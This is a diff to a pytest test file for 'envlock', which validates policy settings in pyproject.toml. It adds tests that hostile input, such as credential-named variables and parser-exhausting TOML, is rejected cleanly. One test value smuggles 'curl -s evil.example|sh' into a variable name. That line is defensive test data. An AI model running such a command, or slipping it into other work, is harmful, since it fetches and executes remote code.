@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 from pathlib import Path
 
 import pytest
@@ -12,7 +13,7 @@ from factory import build_wheel, make_venv, pip_install
 from support import envlock, validate
 
 from envlock.errors import UsageError
-from envlock.policy import from_table
+from envlock.policy import Policy, from_table
 
 
 @pytest.fixture(scope="module")
@@ -120,11 +121,60 @@ def test_invalid_policy_names_the_key(tmp_path: Path) -> None:
         ({"severity": {"nonsense": "error"}}, "severity.nonsense: unknown category"),
         ({"severity": {"extra": "fatal"}}, "severity.extra: must be one of"),
         ({"patch-warnings": "yes"}, "patch-warnings: must be true or false"),
+        ({"lockfile": "a\0b"}, "lockfile: must be a path"),
+        ({"lockfile": ""}, "lockfile: must be a path"),
+        # a name that a shell would run, or that is not one: never in a fix hint
+        ({"variables": ["X;curl -s evil.example|sh;Y"]}, "'X;curl -s evil.example.sh;Y' is not a"),
+        ({"variables": ["A\nB"]}, "'A.nB' is not a variable name"),
+        ({"variables": ["MY SEED"]}, "'MY SEED' is not a variable name"),
+        ({"variables": ["X" * 200]}, "is not a variable name"),
+        ({"variables": [f"V{i}" for i in range(300)]}, "variables: more than 256 names"),
+        # a pull request must not make CI print a secret
+        ({"variables": ["GITHUB_TOKEN"]}, "GITHUB_TOKEN looks like a credential's name"),
+        ({"variables": ["AWS_SECRET_ACCESS_KEY"]}, "AWS_SECRET_ACCESS_KEY looks like a credential"),
+        ("x", "pyproject.toml: .tool.envlock.: must be a table"),
     ],
 )
 def test_policy_errors(table: dict[str, object], message: str) -> None:
     with pytest.raises(UsageError, match=message):
         from_table(table, "pyproject.toml")
+
+
+def test_policy_names_of_real_variables_are_accepted() -> None:
+    from envlock.variables import VARIABLES
+
+    names = [*VARIABLES, "MY_SEED", "TOKENIZERS_PARALLELISM", "XLA_FLAGS", "_PRIVATE2"]
+    assert from_table({"variables": names}, "pyproject.toml").variables == tuple(names)
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ('tool = "x"  # tool.envlock\n', "pyproject.toml: tool: must be a table"),
+        ("[tool.envlock]\nignore = " + "[" * 5000 + "]" * 5000 + "\n", "pyproject.toml: not valid"),
+        ("a" + ".a" * 30000 + " = 1  # envlock\n", "pyproject.toml: not valid TOML: a key of"),
+        ('[tool.envlock]\nfail-on = "warn\xff"\n', "pyproject.toml: not UTF-8 text"),
+        ('[tool.envlock]\nfail-on = "sometimes"\n', "pyproject.toml: .tool.envlock. fail-on"),
+        # any way TOML spells the table is read
+        ('[tool."envlock"]\nfail-on = "sometimes"\n', "fail-on: must be one of"),
+        ("[ tool . envlock ]\nfail-on = 'sometimes'\n", "fail-on: must be one of"),
+        ("tool = {envlock = {fail-on = 'sometimes'}}\n", "fail-on: must be one of"),
+    ],
+)
+def test_a_hostile_pyproject_is_one_line_exit_2(tmp_path: Path, text: str, message: str) -> None:
+    (tmp_path / "pyproject.toml").write_bytes(text.encode("latin-1"))  # (\xff: not UTF-8)
+    done = envlock("verify", cwd=tmp_path, env=_env())
+    assert done.returncode == 2, done.stderr
+    last = done.stderr.strip().splitlines()[-1]
+    assert re.search(message, last) and "Traceback" not in done.stderr, done.stderr
+
+
+def test_strict_never_lowers_the_bar_the_file_sets() -> None:
+    from envlock.findings import INFO, WARNING
+
+    assert Policy(fail_on=INFO).with_flags(strict=True).fail_on == INFO
+    assert Policy().with_flags(strict=True).fail_on == WARNING
+    assert Policy(fail_on=INFO).with_flags(strict=True, fail_on="error").fail_on == "error"
 
 
 def test_policy_lockfile_is_the_default_everywhere(tmp_path: Path, venv: Path) -> None:
